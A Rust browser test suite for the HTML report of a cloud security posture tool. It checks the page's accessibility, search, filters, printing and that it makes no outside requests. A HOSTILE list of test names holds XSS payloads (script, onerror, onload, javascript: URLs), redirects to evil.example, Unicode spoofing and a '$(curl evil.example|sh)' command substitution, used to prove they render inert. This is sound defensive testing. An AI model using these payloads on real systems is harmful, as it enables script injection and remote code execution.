//! The HTML report in a real browser: it asks for nothing, everything in it can be found and reached, by keyboard
//! too, and what it shows of hostile names is text.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Instant;

use posture_report::v1::{Finding, Report, Severity, Status};
use posture_report::{Format, RenderOptions, Source};
use serde_json::json;

use crate::support::{Browser, Posture, demo, work_dir};
use crate::synthetic::Synthetic;

const FINDINGS: u64 = 1_200;

fn written(name: &str, source: &dyn Source) -> PathBuf {
    let path = work_dir().join(name);
    let mut file = std::fs::File::create(&path).unwrap();
    Format::Html
        .render(source, &RenderOptions::default(), &mut file)
        .unwrap();
    path
}

/// A page of moderate size that most tests look at.
fn page_path() -> &'static Path {
    static PAGE: OnceLock<PathBuf> = OnceLock::new();
    PAGE.get_or_init(|| written("page.html", &Synthetic::new(FINDINGS)))
}

fn page() -> String {
    url(page_path())
}

fn url(path: &Path) -> String {
    format!("file://{}", path.display())
}

/// All findings of it.
fn findings() -> &'static [Finding] {
    static FOUND: OnceLock<Vec<Finding>> = OnceLock::new();
    FOUND.get_or_init(|| all(&Synthetic::new(FINDINGS)))
}

fn all(source: &dyn Source) -> Vec<Finding> {
    let mut all = Vec::new();
    source
        .each(&mut |finding| {
            all.push(finding.clone());
            Ok(())
        })
        .unwrap();
    all
}

/// Serves a page on loopback, with these further headers; gives its address, and what is asked for.
fn served(path: &Path, headers: &'static str) -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}/", listener.local_addr().unwrap());
    let asked = Arc::new(Mutex::new(Vec::new()));
    let body = std::fs::read(path).unwrap();
    let log = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut request = [0; 4096];
            let read = stream.read(&mut request).unwrap_or(0);
            let text = String::from_utf8_lossy(&request[..read]);
            // A browser also opens connections that it may not need.
            let Some(line) = text.lines().next() else {
                continue;
            };
            log.lock().unwrap().push(line.to_owned());
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n{headers}Connection: close\r\n\r\n",
                body.len()
            );
            let _ = stream
                .write_all(head.as_bytes())
                .and_then(|()| stream.write_all(&body));
        }
    });
    (address, asked)
}

/// The number that the page says it shows.
fn count(browser: &mut Browser) -> usize {
    let text = browser.text("document.querySelector('#count b').textContent");
    let digits: String = text.chars().filter(char::is_ascii_digit).collect();
    digits.parse().unwrap()
}

fn failing(severity: Severity) -> usize {
    let found = findings().iter();
    found
        .filter(|f| f.severity == severity && f.status == Status::Fail)
        .count()
}

const SHEET_IS_OPEN: &str = "document.querySelector('dialog.sheet').open";

/// Waits for the details, which are unfolded when they are asked for.
fn open_finding(browser: &mut Browser, finding: &Finding) {
    browser.go(&format!("#{}", finding.id));
    browser.wait_for(&format!(
        "{SHEET_IS_OPEN} && document.querySelector('.sheet .evidence')"
    ));
}

#[test]
fn the_page_asks_for_nothing_and_complains_of_nothing() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let (address, asked) = served(page_path(), "");
    for address in [page(), address] {
        for width in [1440, 390] {
            browser.size(width, 900);
            for colors in ["light", "dark"] {
                browser.media("", colors);
                browser.open(&address);
                for view in ["#findings", "#unread", "#about", "#overview", "#scores"] {
                    browser.go(view);
                    let wide = browser.number("document.documentElement.scrollWidth");
                    assert!(
                        wide <= f64::from(width),
                        "{view} is {wide} pixels wide of {width}"
                    );
                }
                open_finding(&mut browser, &findings()[600]);
                let over = browser.number(
                    "(({scrollWidth, clientWidth}) => scrollWidth - clientWidth)(document.querySelector('.sheet .body'))",
                );
                assert!(over <= 0.0, "a finding is {over} pixels too wide");
            }
        }
    }
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
    let asked = asked.lock().unwrap();
    assert!(
        asked.iter().all(|line| line == "GET / HTTP/1.1"),
        "{asked:?}"
    );
}

#[test]
fn without_scripts_the_page_says_what_matters() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.call(
        "Emulation.setScriptExecutionDisabled",
        json!({"value": true}),
    );
    browser.call("Page.navigate", json!({"url": page()}));
    browser.wait_for("document.querySelector('footer') && document.readyState === 'complete'");
    let text = browser.text("document.body.innerText");
    for part in [
        "Do this first",
        "AWS Well-Architected",
        "OWASP Serverless Top 10",
        "These are the checks that fail",
        "Could not be read",
        "What to grant",
        "ec2:DescribeSecurityGroups",
        "Questions for you",
    ] {
        assert!(text.contains(part), "{part:?} is not shown");
    }
    let shown = browser.number(
        "[...document.querySelectorAll('.view')].filter((view) => view.offsetHeight > 0).length",
    );
    assert_eq!(shown, 4.0);
    assert_eq!(
        browser.evaluate("document.querySelectorAll('button.copy').length"),
        0
    );
}

/// Types into the search box and waits until the evidence is searched too.
fn search(browser: &mut Browser, text: &str) -> usize {
    browser.evaluate("document.getElementById('search').focus()");
    browser.evaluate("document.getElementById('search').select()");
    browser.write(text);
    let query = json!(format!("q={text}"));
    browser.wait_for(&format!(
        "decodeURIComponent(location.hash.replaceAll('+', ' ')).includes({query})"
    ));
    browser.wait_for("!document.getElementById('progress').textContent");
    count(browser)
}

#[test]
fn what_is_searched_for_is_found() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&format!("{}#findings", page()));
    assert_eq!(count(&mut browser), findings().len());
    // A name in any case; words that stand in different fields; a word that is nowhere.
    let wanted = &findings()[700];
    let name = &wanted.resource.name;
    let named = findings()
        .iter()
        .filter(|f| f.resource.name == *name)
        .count();
    assert!(search(&mut browser, &name.to_uppercase()) >= named);
    assert_eq!(search(&mut browser, wanted.id.as_str()), 1);
    let both = format!("{} {}", wanted.id, wanted.resource.tags["team"]);
    assert_eq!(search(&mut browser, &both), 1);
    assert_eq!(search(&mut browser, &format!("{} nonsense", wanted.id)), 0);
    assert_eq!(
        browser.evaluate("document.getElementById('nothing').hidden"),
        false
    );
    // What stands in the evidence alone, and in one finding's.
    let mut groups = findings().iter();
    let deep = groups
        .find(|f| f.resource.r#type == "ec2.security_group")
        .unwrap();
    let mut facts = deep.evidence.iter();
    let fact = facts.find(|e| e.field == "resource.ingress").unwrap();
    let (_, rest) = fact.value.split_once("\"sg-").unwrap();
    let (group, _) = rest.split_once('"').unwrap();
    search(&mut browser, group);
    browser.wait_for("document.querySelector('#count b').textContent === '1 finding'");
    // The list is drawn after it is counted.
    browser.wait_for("document.querySelectorAll('.list .row a').length === 1");
    let shown = browser.text("document.querySelector('.list .row a').getAttribute('href')");
    assert!(shown.starts_with(&format!("#{}", deep.id)), "{shown}");
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn filters_keep_what_they_say() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&format!("{}#findings", page()));
    let wanted = &findings()[700];
    // By the menus, whose numbers are true.
    let choose = |browser: &mut Browser, facet: &str, value: &str| {
        let menu = format!(".facet[data-facet={facet}]");
        let choice = format!("{menu} input[value={value}]");
        browser.click(&format!("{menu} summary"));
        browser.wait_for(&format!("document.querySelector('{choice}')"));
        let said = browser.text(&format!(
            "document.querySelector('{choice} ~ .n').textContent"
        ));
        browser.click(&choice);
        assert_eq!(count(browser).to_string(), said.replace(',', ""));
    };
    choose(&mut browser, "severity", "high");
    let high = findings().iter().filter(|f| f.severity == Severity::High);
    assert_eq!(count(&mut browser), high.count());
    choose(&mut browser, "status", "fail");
    assert_eq!(count(&mut browser), failing(Severity::High));
    assert!(browser.text("location.hash").contains("severity=high"));
    browser.click("#active .linkish");
    assert_eq!(count(&mut browser), findings().len());
    // By addresses.
    type Fits = fn(&Finding, &Finding) -> bool;
    let by_address: [(&str, &str, Fits); 6] = [
        ("account", wanted.account.as_str(), |f, w| {
            f.account == w.account
        }),
        ("region", wanted.region.as_str(), |f, w| {
            f.region == w.region
        }),
        ("service", "kms", |f, _| {
            f.resource.r#type.starts_with("kms.")
        }),
        ("framework", "owasp:S3", |f, _| {
            f.owasp_serverless.contains(&"S3".to_owned())
        }),
        ("framework", "wa:SEC08", |f, _| {
            f.well_architected.iter().any(|id| id.starts_with("SEC08-"))
        }),
        ("framework", "lens:SEC 1", |f, _| {
            f.serverless_lens.contains(&"SEC 1".to_owned())
        }),
    ];
    for (facet, value, fits) in by_address {
        browser.go(&format!("#findings?{facet}={}", value.replace(' ', "%20")));
        let expected = findings().iter().filter(|f| fits(f, wanted)).count();
        assert_eq!(count(&mut browser), expected, "{facet}={value}");
    }
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn every_grouping_shows_every_finding() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&format!("{}#findings", page()));
    type Key = fn(&Finding) -> String;
    let groupings: [(&str, Key); 4] = [
        ("check", |f| f.check.to_string()),
        ("resource", |f| {
            format!(
                "{} {} {} {}",
                f.resource.r#type, f.account, f.region, f.resource.arn
            )
        }),
        ("account", |f| f.account.to_string()),
        ("region", |f| f.region.to_string()),
    ];
    for (group, key) in groupings {
        browser.click(&format!(".groups input[value={group}]"));
        assert_eq!(count(&mut browser), findings().len());
        let mut heads: BTreeMap<String, usize> = BTreeMap::new();
        for finding in findings() {
            *heads.entry(key(finding)).or_default() += 1;
        }
        let said = browser.text("document.getElementById('count').textContent");
        let (_, said) = said.split_once(", ").unwrap();
        let number: String = said.chars().filter(char::is_ascii_digit).collect();
        assert_eq!(number, heads.len().to_string(), "{said}");
        assert!(browser.number("document.querySelectorAll('.list .head').length") > 2.0);
    }
    browser.click(".groups input[value=none]");
    assert_eq!(
        browser.evaluate("document.querySelectorAll('.list .head').length"),
        0
    );
    // Only what is near the screen has elements, and the end can be scrolled to.
    let rows = browser.number("document.querySelectorAll('.list .row').length");
    assert!((10.0..200.0).contains(&rows), "{rows} rows");
    browser.evaluate("scrollTo(0, document.body.scrollHeight)");
    browser.settle();
    let last = findings().len().to_string();
    browser.wait_for(&format!(
        "document.querySelector('.list [aria-posinset=\"{last}\"] a')"
    ));
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn a_finding_is_opened_from_its_address() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    // One that the list has not drawn, straight from a mail.
    let last = findings().last().unwrap();
    browser.open(&format!("{}#{}", page(), last.id));
    browser.wait_for("document.querySelector('.sheet .evidence')");
    let sheet = browser.text("document.querySelector('.sheet').innerText");
    let cli = last.fix.cli.as_ref().unwrap();
    for part in [
        &last.title,
        &last.resource.arn,
        &last.risk,
        cli,
        &last.references[0],
    ] {
        assert!(sheet.contains(part.as_str()), "{part:?} is not in {sheet}");
    }
    for fact in &last.evidence {
        assert!(
            sheet.contains(&fact.value),
            "{:?} is not in {sheet}",
            fact.value
        );
        assert!(sheet.contains(&fact.source[0]));
    }
    for (key, value) in &last.resource.tags {
        assert!(
            sheet.contains(&format!("{key} = {value}")),
            "{key} is not in {sheet}"
        );
    }
    browser.press("Escape");
    browser.wait_for(&format!(
        "!{SHEET_IS_OPEN} && location.hash === '#findings'"
    ));
    // What is not in the report is said, not shown as something else.
    browser.open(&format!("{}#{}", page(), "f".repeat(32)));
    let title = browser.text("document.getElementById('sheet-title').textContent");
    assert_eq!(title, "No such finding");
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn addresses_lead_where_they_say_and_back() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&format!("{}#findings", page()));
    browser.go("#findings?severity=high&group=account");
    let high = count(&mut browser);
    let filtered = format!("!{SHEET_IS_OPEN} && location.hash.includes('severity=high')");
    let inside = findings()
        .iter()
        .find(|f| f.severity == Severity::High)
        .unwrap();
    open_finding(&mut browser, inside);
    browser.evaluate("history.back()");
    browser.wait_for(&filtered);
    assert_eq!(count(&mut browser), high);
    browser.evaluate("history.forward()");
    browser.wait_for(SHEET_IS_OPEN);
    browser.press("Escape");
    browser.wait_for(&filtered);
    // A browser that asks nobody before it closes a dialog leaves the same way, one step.
    browser.evaluate("history.forward()");
    browser.wait_for(SHEET_IS_OPEN);
    browser.evaluate(
        "{ const sheet = document.querySelector('dialog.sheet'); \
           sheet.dispatchEvent(new Event('cancel')); sheet.close(); }",
    );
    browser.wait_for(&filtered);
    browser.settle();
    browser.wait_for(&filtered);
    browser.wait_for("!document.documentElement.classList.contains('sheet-open')");
    assert_eq!(count(&mut browser), high);
    browser.evaluate("history.back()");
    browser.wait_for("location.hash === '#findings'");
    browser.settle();
    assert_eq!(count(&mut browser), findings().len());
    // A shared view opens as it was.
    browser.open(&format!(
        "{}#findings?q=webhook&group=resource&status=unknown",
        page()
    ));
    let shown = count(&mut browser);
    assert!(shown > 0 && shown < findings().len(), "{shown}");
    assert_eq!(
        browser.text("document.getElementById('search').value"),
        "webhook"
    );
    assert_eq!(
        browser.evaluate("document.querySelector('.groups input[value=resource]').checked"),
        true
    );
    // The overview's links; a finding opens over the view that it is opened from.
    browser.open(&page());
    browser.click(".tile.critical");
    assert_eq!(count(&mut browser), failing(Severity::Critical));
    browser.go("#overview");
    browser.click(".first .who a");
    browser.wait_for(SHEET_IS_OPEN);
    assert_eq!(
        browser.text("document.documentElement.dataset.view"),
        "overview"
    );
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn copying_copies_the_command() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let (address, _) = served(page_path(), "");
    browser.call(
        "Browser.grantPermissions",
        json!({"origin": address.trim_end_matches('/'), "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}),
    );
    browser.open(&address);
    let finding = findings()
        .iter()
        .find(|f| f.fix.terraform.is_some())
        .unwrap();
    open_finding(&mut browser, finding);
    let copied = |browser: &mut Browser, button: &str| {
        browser.click(button);
        browser.wait_for(&format!(
            "document.querySelector(\"{button}\").textContent === 'Copied'"
        ));
        browser.text("navigator.clipboard.readText()")
    };
    for (what, expected) in [
        ("command", finding.fix.cli.as_deref().unwrap()),
        (
            "Terraform snippet",
            finding.fix.terraform.as_deref().unwrap(),
        ),
        ("ARN", finding.resource.arn.as_str()),
        ("finding id", finding.id.as_str()),
    ] {
        let button = format!(".sheet [aria-label='Copy {what}']");
        assert_eq!(copied(&mut browser, &button), expected);
    }
    browser.press("Escape");
    browser.go("#unread");
    let actions = copied(&mut browser, "#unread .grant .copy");
    assert!(
        actions.lines().count() >= 5 && actions.lines().all(|line| line.contains(':')),
        "{actions}"
    );
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn a_sandbox_takes_nothing_away() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    // An origin of its own and no storage: as a mail program or a ticket shows an attachment.
    let (address, _) = served(
        page_path(),
        "Content-Security-Policy: sandbox allow-scripts\r\n",
    );
    browser.media("", "light");
    browser.open(&format!("{address}#findings"));
    assert_eq!(count(&mut browser), findings().len());
    let colors = "getComputedStyle(document.body).backgroundColor";
    let light = browser.text(colors);
    browser.click("#theme");
    assert_ne!(browser.text(colors), light);
    browser.click("#theme");
    assert_eq!(browser.text(colors), light);
    open_finding(&mut browser, &findings()[3]);
    browser.press("Escape");
    browser.wait_for(&format!("!{SHEET_IS_OPEN}"));
}

/// Texts whose contrast with what is behind them is below what WCAG 2.1 AA asks.
const LOW_CONTRAST: &str = r#"(() => {
  const channels = (color) => {
    const match = color.match(/^rgba?\(([^)]+)\)/) ?? color.match(/^color\(srgb ([^)]+)\)/);
    const parts = match[1].split(/[ ,/]+/).map(Number);
    const scale = color.startsWith("color") ? 255 : 1;
    return [...parts.slice(0, 3).map((part) => part * scale), parts[3] ?? 1];
  };
  const over = (front, back) => front.slice(0, 3).map((channel, at) => channel * front[3] + back[at] * (1 - front[3])).concat(1);
  const light = (color) => {
    const [r, g, b] = color.map((channel) => channel / 255).map((channel) => (channel <= 0.03928 ? channel / 12.92 : ((channel + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (node) => {
    const layers = [];
    for (let at = node; at; at = at.parentElement) {
      const layer = channels(getComputedStyle(at).backgroundColor);
      if (layer[3] > 0) layers.push(layer);
      if (layer[3] === 1) break;
    }
    return layers.reverse().reduce((back, layer) => over(layer, back), [255, 255, 255, 1]);
  };
  const found = new Set();
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || node.closest("script, style, .sr, noscript, [disabled]") || !node.getClientRects().length) continue;
    const style = getComputedStyle(node);
    const drawing = node.closest("svg");
    const back = behind(drawing?.parentElement ?? node);
    const [high, low] = [light(over(channels(drawing ? style.fill : style.color), back)), light(back)].sort((a, b) => b - a);
    const ratio = (high + 0.05) / (low + 0.05);
    const size = parseFloat(style.fontSize);
    const large = size >= 24 || (size >= 18.66 && Number(style.fontWeight) >= 700);
    if (ratio < (large ? 3 : 4.5)) found.add(`${ratio.toFixed(2)} ${node.className || node.localName}: ${walker.currentNode.data.trim().slice(0, 30)}`);
  }
  return [...found];
})()"#;

#[test]
fn dark_and_light_can_be_read() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let background = "getComputedStyle(document.body).backgroundColor";
    let waived = findings()
        .iter()
        .find(|f| f.status == Status::Waived)
        .unwrap();
    let mut seen = Vec::new();
    for colors in ["light", "dark"] {
        browser.media("", colors);
        browser.open(&page());
        seen.push(browser.text(background));
        for view in [
            "#overview",
            "#findings",
            "#unread",
            "#about",
            "#findings?group=none",
        ] {
            browser.go(view);
            assert_eq!(
                browser.evaluate(LOW_CONTRAST),
                json!([]),
                "{view}, {colors}"
            );
        }
        open_finding(&mut browser, waived);
        assert_eq!(
            browser.evaluate(LOW_CONTRAST),
            json!([]),
            "a finding, {colors}"
        );
    }
    assert_ne!(seen[0], seen[1]);
    // The button says otherwise, and is remembered where there is a place to remember it.
    browser.open(&page());
    browser.click("#theme");
    assert_eq!(browser.text(background), seen[0]);
    assert_eq!(
        browser.text("document.getElementById('theme').getAttribute('aria-pressed')"),
        "false"
    );
    browser.open(&page());
    assert_eq!(browser.text(background), seen[0]);
    // Who wants no motion gets none.
    browser.call(
        "Emulation.setEmulatedMedia",
        json!({"features": [{"name": "prefers-reduced-motion", "value": "reduce"}]}),
    );
    open_finding(&mut browser, &findings()[0]);
    let motion = browser.text("getComputedStyle(document.querySelector('.sheet')).animationName");
    assert_eq!(motion, "none");
}

#[test]
fn everything_is_reached_by_keyboard() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&page());
    let focused = "document.activeElement.outerHTML.slice(0, 200)";
    let attribute = |name: &str| format!("document.activeElement.getAttribute('{name}')");
    browser.press("Tab");
    assert!(browser.text(focused).contains("class=\"skip\""));
    // From anywhere to the search box; what is found is told.
    browser.press("/");
    assert_eq!(browser.text("document.activeElement.id"), "search");
    browser.write("unencrypted");
    browser.wait_for("location.hash.includes('q=unencrypted')");
    browser.wait_for("/findings?/.test(document.getElementById('live').textContent)");
    // On through filters and groupings into the list.
    for _ in 0..14 {
        browser.press("Tab");
        if browser.evaluate("Boolean(document.activeElement.closest('.list'))") == true {
            break;
        }
    }
    let in_list = browser.evaluate("Boolean(document.activeElement.closest('.list .head'))");
    assert_eq!(in_list, true, "{}", browser.text(focused));
    assert_eq!(browser.text(&attribute("aria-expanded")), "false");
    assert_ne!(
        browser.text("getComputedStyle(document.activeElement).outlineStyle"),
        "none"
    );
    browser.press("ArrowRight");
    assert_eq!(browser.text(&attribute("aria-expanded")), "true");
    browser.press("ArrowDown");
    browser.press("ArrowDown");
    let row = browser.text(&attribute("href"));
    assert!(row.starts_with('#') && row.len() > 32, "{row}");
    browser.press("Enter");
    browser.wait_for(SHEET_IS_OPEN);
    assert_eq!(browser.text("document.activeElement.id"), "sheet-title");
    // The focus stays inside while it is open, and returns to where it came from.
    for _ in 0..30 {
        browser.press("Tab");
        let inside = browser.evaluate(
            "document.activeElement === document.body || Boolean(document.activeElement.closest('dialog'))",
        );
        assert_eq!(inside, true, "{}", browser.text(focused));
    }
    browser.press("Escape");
    browser.wait_for(&format!("!{SHEET_IS_OPEN}"));
    browser.settle();
    assert_eq!(browser.text(&attribute("href")), row);
    let place = |name: &str| format!("document.activeElement.closest('li').getAttribute('{name}')");
    browser.press("End");
    assert_eq!(
        browser.text(&place("aria-posinset")),
        browser.text(&place("aria-setsize"))
    );
    browser.press("Home");
    assert_eq!(browser.text(&place("aria-posinset")), "1");
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

/// What has no name that a screen reader could say, ids that are not unique, headings that skip a level.
const UNNAMED: &str = r#"(() => {
  const found = [];
  for (const node of document.querySelectorAll("button, a, input, select, summary, dialog[open], nav, section, [role=img], [role=group]")) {
    if (!node.getClientRects().length) continue;
    const labelled = document.getElementById(node.getAttribute("aria-labelledby"))?.textContent;
    const name = node.getAttribute("aria-label") || labelled || node.textContent.trim() || node.closest("label")?.textContent;
    if (!name) found.push(`no name: ${node.outerHTML.slice(0, 120)}`);
  }
  const ids = [...document.querySelectorAll("[id]")].map((node) => node.id);
  for (const id of new Set(ids)) if (ids.indexOf(id) !== ids.lastIndexOf(id)) found.push(`id twice: ${id}`);
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("h1").length !== 1) found.push("one main, one h1");
  let level = 1;
  for (const heading of document.querySelectorAll("main h1, main h2, main h3, main h4")) {
    const now = Number(heading.localName[1]);
    if (now > level + 1) found.push(`${heading.outerHTML.slice(0, 80)} after level ${level}`);
    level = now;
  }
  for (const table of document.querySelectorAll("table")) if (!table.querySelector("th[scope]")) found.push("a table without heads");
  return found;
})()"#;

#[test]
fn a_screen_reader_is_told_what_things_are() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&page());
    for view in ["#overview", "#findings", "#unread", "#about"] {
        browser.go(view);
        assert_eq!(browser.evaluate(UNNAMED), json!([]), "{view}");
        assert_eq!(
            browser.text("document.querySelector('nav [aria-current]').hash"),
            view
        );
    }
    open_finding(&mut browser, &findings()[5]);
    assert_eq!(browser.evaluate(UNNAMED), json!([]));
}

#[test]
fn it_prints() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    browser.open(&format!("{}#findings", page()));
    browser.media("print", "dark");
    browser.evaluate("dispatchEvent(new Event('beforeprint'))");
    for (selector, display) in [
        (".masthead", "none"),
        (".tools", "none"),
        ("#overview", "block"),
        ("#findings", "block"),
        ("#unread", "block"),
        ("#about", "block"),
    ] {
        let shown = browser.text(&format!(
            "getComputedStyle(document.querySelector('{selector}')).display"
        ));
        assert_eq!(shown, display, "{selector}");
    }
    let paper = browser.text("getComputedStyle(document.body).backgroundColor");
    assert_eq!(paper, "rgb(255, 255, 255)");
    let rows =
        browser.evaluate("document.querySelectorAll('.printed tbody tr:not(.group)').length");
    assert_eq!(rows, 500);
    let caption = browser.text("document.querySelector('.printed caption').textContent");
    assert!(caption.contains("of 1,200"), "{caption}");
    let printed = browser.call("Page.printToPDF", json!({"printBackground": true}));
    assert!(
        printed["data"].as_str().unwrap().starts_with("JVBERi0"),
        "no PDF"
    );
    browser.evaluate("dispatchEvent(new Event('afterprint'))");
    assert_eq!(
        browser.evaluate("document.querySelector('.printed')"),
        json!(null)
    );
}

/// Names that a page could take for more than names.
const HOSTILE: &[&str] = &[
    "<script>window.harmed = 1</script>",
    "</script><script>window.harmed = 2</script>",
    "<img src=x onerror='window.harmed = 3'>",
    "\"><svg onload='window.harmed = 4'>",
    "' autofocus onfocus='window.harmed = 5' x='",
    "javascript:window.harmed=6",
    "<iframe srcdoc='<script>parent.harmed = 7</script>'></iframe>",
    "<a href='https://evil.example/'>click</a><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "__proto__",
    "constructor",
    "safe\u{202e}gpj.exe",
    "\u{2066}isolated\u{2069}\u{200f}",
    "ze\u{200b}ro\u{feff}wi\u{2060}dth\u{e0041}",
    "two\nlines\r\n\u{2028}three\u{85}",
    "\u{1b}[31m\u{0}\u{1}0\u{2}\u{3}\u{9b}",
    "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}algo",
    "שרת-הייצור ١٢٣",
    "$(curl evil.example|sh)",
    "https://evil.example/?<b>",
    "   ",
];

/// A report in which every finding is named by one of them, in every text.
fn hostile() -> Report {
    let source = Synthetic::new(400);
    let mut head = source.head().clone();
    let mut findings = all(&source);
    let mut names = HOSTILE.iter().cycle();
    for account in &mut head.scan.accounts {
        account.name = names.next().map(|name| (*name).to_owned());
    }
    for row in &mut head.coverage {
        row.error = names.next().map(|name| (*name).to_owned());
    }
    for question in &mut head.manual {
        question.question = HOSTILE.join(" ");
    }
    for finding in &mut findings {
        let name = (*names.next().unwrap()).to_owned();
        let old = finding.resource.name.clone();
        finding.resource.arn = finding.resource.arn.replace(&old, &name);
        finding.resource.id = format!("{name}{}", finding.id);
        finding.resource.tags = [(name.clone(), name.clone())].into();
        finding.message = format!("{}: {name}", finding.title);
        finding.risk.clone_from(&name);
        finding.fix.cli = Some(format!("aws x --name '{name}'"));
        finding.fix.console = Some(name.clone());
        finding.references = vec![name.clone(), "https://docs.aws.amazon.com/".to_owned()];
        finding.practices.push(name.clone());
        for fact in &mut finding.evidence {
            fact.value.clone_from(&name);
            fact.source = vec![name.clone()];
        }
        for gap in &mut finding.gaps {
            gap.code = Some(name.clone());
            gap.operation = Some(name.clone());
        }
        if let Some(waiver) = &mut finding.waiver {
            waiver.reason.clone_from(&name);
            waiver.owner = Some(name.clone());
        }
        finding.resource.name = name;
    }
    Report { head, findings }
}

/// What a name could have brought into the page, and characters on it that do not show.
const INJECTED: &str = r#"(() => {
  const found = [];
  if (window.harmed) found.push(`harmed: ${window.harmed}`);
  for (const node of document.querySelectorAll("img, iframe, object, embed, base, form, bdi *:not(mark)")) found.push(node.outerHTML.slice(0, 100));
  if (document.querySelectorAll("script:not([type])").length !== 2) found.push("scripts of others");
  for (const node of document.querySelectorAll("*")) {
    for (const attribute of node.attributes) {
      if (attribute.name.startsWith("on")) found.push(`${node.localName} ${attribute.name}`);
      if (["href", "src", "xlink:href"].includes(attribute.name) && !/^(#|https:\/\/docs\.aws\.amazon\.com\/|https:\/\/evil\.example\/\?|data:image\/svg)/.test(attribute.value)) found.push(attribute.value);
    }
  }
  const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\u{e0041}/u;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    if (walker.currentNode.parentElement.closest("script, style")) continue;
    const match = walker.currentNode.data.match(hidden);
    if (match) found.push(`U+${match[0].codePointAt(0).toString(16)} in ${walker.currentNode.data.slice(0, 60)}`);
  }
  return found;
})()"#;

/// Whether a name holds what does not show, which the page spells out.
fn is_spelt_out(name: &str) -> bool {
    name.chars().any(|c| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
                | '\u{303}'..='\u{307}' | '\u{feff}' | '\u{e0041}')
    })
}

#[test]
fn hostile_names_are_inert() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let report = hostile();
    browser.open(&url(&written("hostile.html", &report)));
    for view in [
        "#overview",
        "#findings",
        "#unread",
        "#about",
        "#findings?group=resource",
        "#findings?group=none",
        "#findings?group=account",
    ] {
        browser.go(view);
        if view == "#findings" {
            browser.click("#spread");
        }
        assert_eq!(browser.evaluate(INJECTED), json!([]), "{view}");
    }
    for facet in ["account", "framework", "service"] {
        browser.click(&format!(".facet[data-facet={facet}] summary"));
        assert_eq!(browser.evaluate(INJECTED), json!([]), "{facet}");
    }
    for finding in report.findings.iter().step_by(8) {
        open_finding(&mut browser, finding);
        assert_eq!(
            browser.evaluate(INJECTED),
            json!([]),
            "{:?}",
            finding.resource.name
        );
        let name = &finding.resource.name;
        let shown = browser.text("document.querySelector('.sheet .facts dd').textContent");
        let odd = is_spelt_out(name);
        assert_eq!(shown.contains("⟨U+"), odd, "{shown:?} for {name:?}");
        // A command that holds what does not show is not offered for copying.
        let copies = browser
            .evaluate("document.querySelectorAll(\".sheet [aria-label='Copy command']\").length");
        assert_eq!(copies, u8::from(!odd), "{name:?}");
        let isolation = browser
            .text("getComputedStyle(document.querySelector('.sheet .facts dd bdi')).unicodeBidi");
        assert_eq!(isolation, "isolate");
        // Only addresses of the web are links.
        let links = browser
            .evaluate("[...document.querySelectorAll('.sheet .refs a')].map((a) => a.protocol)");
        let own = usize::from(name.starts_with("https://"));
        assert_eq!(links, json!(vec!["https:"; own + 1]), "{name:?}");
    }
    // A search for one, and an address that holds one.
    browser.go("#findings?q=%3Cimg%20src%3Dx");
    assert!(count(&mut browser) > 0);
    assert_eq!(browser.evaluate(INJECTED), json!([]));
    browser.go("#findings?account=%3Cimg%20src%3Dx%20onerror%3Dwindow.harmed%3D8%3E&group=__proto__&status=%3Cb%3E");
    assert_eq!(browser.evaluate(INJECTED), json!([]));
    browser.evaluate("dispatchEvent(new Event('beforeprint'))");
    assert_eq!(browser.evaluate(INJECTED), json!([]));
    assert_eq!(browser.misdeeds(), Vec::<String>::new());
}

#[test]
fn a_hundred_thousand_findings() {
    let Some(mut browser) = Browser::start() else {
        return;
    };
    let source = Synthetic::new(100_000);
    let path = written("large.html", &source);
    let size = path.metadata().unwrap().len();
    assert!(size < 25_000_000, "{size} bytes");
    let started = Instant::now();
    browser.open(&format!("{}#findings", url(&path)));
    let loaded = started.elapsed();
    assert_eq!(count(&mut browser), 100_000);
    browser.press("/");
    browser.write("webhook");
    browser.wait_for(
